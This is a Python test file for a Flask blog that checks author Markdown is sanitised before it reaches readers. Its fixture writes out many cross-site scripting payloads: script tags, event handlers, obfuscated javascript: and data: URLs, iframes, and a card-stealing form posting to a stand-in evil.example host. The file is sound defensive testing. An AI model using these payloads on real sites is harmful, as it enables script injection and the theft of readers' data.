"""Whatever an author types, no script, handler, dangerous URL or raw HTML reaches a reader."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, update

from blog.models import Post
from blog.services import save_post
from shop.clock import FixedClock
from shop.extensions import db

ATOM = "{http://www.w3.org/2005/Atom}"
HOSTILE_MARKDOWN = """\
Innocent opening words.

<script>alert('script-tag')</script>

Inline <script>alert('inline-script')</script> text and <img src="x.png" onerror="alert('onerror')">

<IMG SRC=x OnError=alert('shouting')>

[click me](javascript:alert('javascript-link')) and [upper](JAVASCRIPT:alert('upper'))

<a href="jav&#x09;ascript:alert('entity')">entity</a>
<a href=" javascript:alert('space')">space</a>

[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)

![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ3N2ZycpPjwvc3ZnPg==)

<iframe src="https://evil.example/frame"></iframe>

<div style="background:url(javascript:alert('css'))" onclick="alert('click')">raw div text</div>

<svg><script>alert('svg')</script><circle onload="alert('circle')"></circle></svg>

<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>

<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">

<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/z.css">

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<base href="https://evil.example/"><!-- hidden comment -->

A [safe link](https://www.healthline.com/) stays, **bold** stays.
"""
#: What a reader's browser may be handed from a post body: nothing that runs, loads or styles.
SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "cite", "code", "del", "em", "figcaption", "figure",
    "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "li", "ol", "p", "pre", "q", "s", "strong",
    "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "title", "rel", "src", "alt", "width", "height", "start",
                   "colspan", "rowspan", "scope"}  # fmt: skip


class Elements(HTMLParser):
    """Every element and attribute inside the post body, as a browser would build them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


@pytest.fixture
def hostile(app: Flask, clock: FixedClock) -> None:
    """A published post whose author tried everything."""
    with app.app_context():
        save_post(
            db.session,
            {"title": "Hostile post", "body_markdown": HOSTILE_MARKDOWN, "published": True},
            now=clock.now(),
        )
        db.session.commit()


def body_of(html: str) -> str:
    """The stored post body as the page prints it, without the wrapper."""
    start = html.index('<div class="post-body">') + len('<div class="post-body">')
    return html[start : html.index("</article>")]


def assert_harmless(fragment: str) -> None:
    """Only allow-listed elements and attributes, no comments, only https or relative URLs."""
    elements = Elements()
    elements.feed(fragment)
    assert elements.tags <= SAFE_TAGS, elements.tags - SAFE_TAGS
    assert elements.comments == []
    for tag, name, value in elements.attributes:
        assert name in SAFE_ATTRIBUTES, (tag, name)
        if name in ("href", "src"):
            assert urlsplit(value).scheme in ("", "https"), (tag, name, value)


@pytest.mark.usefixtures("hostile")
def test_hostile_markdown_reaches_the_page_without_any_script_handler_or_raw_html(
    client: FlaskClient,
):
    html = client.get("/blog/hostile-post").get_data(as_text=True)
    body = body_of(html)
    assert_harmless(body)
    # Only the page's own scripts: the JSON-LD data blocks (BlogPosting, BreadcrumbList) and
    # shop.js; nothing hostile loads.
    assert html.lower().count("<script") == 3
    assert "evil.example" not in html and "data:" not in html and "javascript:" not in html
    assert "<script>alert" not in html and "display: none" not in html
    assert "<p>Innocent opening words.</p>" in body
    assert '<a href="https://www.healthline.com/" rel="noopener nofollow">safe link</a>' in body
    assert "<strong>bold</strong>" in body


@pytest.mark.usefixtures("hostile")
def test_stored_html_is_already_clean_so_the_feed_and_teaser_are_too(
    app: Flask, client: FlaskClient
):
    with app.app_context():
        assert_harmless(db.session.scalar(select(Post.body_html)))
    feed = ET.fromstring(client.get("/blog/feed.xml").data)
    assert_harmless(feed.find(f"{ATOM}entry/{ATOM}content").text)
    for path in ("/", "/blog/"):
        html = client.get(path).get_data(as_text=True)
        assert "Innocent opening words." in html and "alert" not in html


def test_title_and_excerpt_are_shown_as_text(app: Flask, client: FlaskClient, clock):
    with app.app_context():
        save_post(
            db.session,
            {
                "title": "<img src=x onerror=alert(1)>",
                "slug": "markup-in-title",
                "excerpt": "<b onmouseover=alert(2)>bold?</b>",
                "body_markdown": "Body.",
                "published": True,
            },
            now=clock.now(),
        )
        db.session.commit()
    for path in ("/blog/markup-in-title", "/blog/", "/"):
        html = client.get(path).get_data(as_text=True)
        assert "<img src=x" not in html and "<b onmouseover" not in html
        assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_pages_print_the_html_stored_at_save_time_without_rendering_again(
    app: Flask, client: FlaskClient, clock
):
    with app.app_context():
        save_post(
            db.session,
            {"title": "Stored", "body_markdown": "Original *text*.", "published": True},
            now=clock.now(),
        )
        db.session.execute(
            update(Post).where(Post.slug == "stored").values(body_html="<p>From the column</p>")
        )
        db.session.commit()
    body = body_of(client.get("/blog/stored").get_data(as_text=True))
    assert "<p>From the column</p>" in body and "Original" not in body


def test_setting_the_markdown_renders_the_html_whoever_sets_it(app: Flask, clock):
    with app.app_context():
        post = save_post(
            db.session, {"title": "Direct", "body_markdown": "One."}, now=clock.now()
        )
        post.body_markdown = "Two <script>x()</script>[a](javascript:x)"
        assert post.body_html == "<p>Two <a>a</a></p>"
